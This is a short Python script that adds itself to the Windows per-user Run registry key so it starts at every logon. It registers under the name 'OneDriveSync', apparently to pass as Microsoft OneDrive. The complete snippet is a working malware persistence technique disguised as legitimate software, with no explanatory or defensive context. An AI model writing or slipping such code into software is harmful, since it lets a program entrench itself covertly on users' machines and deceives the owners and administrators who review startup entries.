import os, sys, winreg

key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "OneDriveSync", 0, winreg.REG_SZ, os.path.abspath(sys.argv[0]))
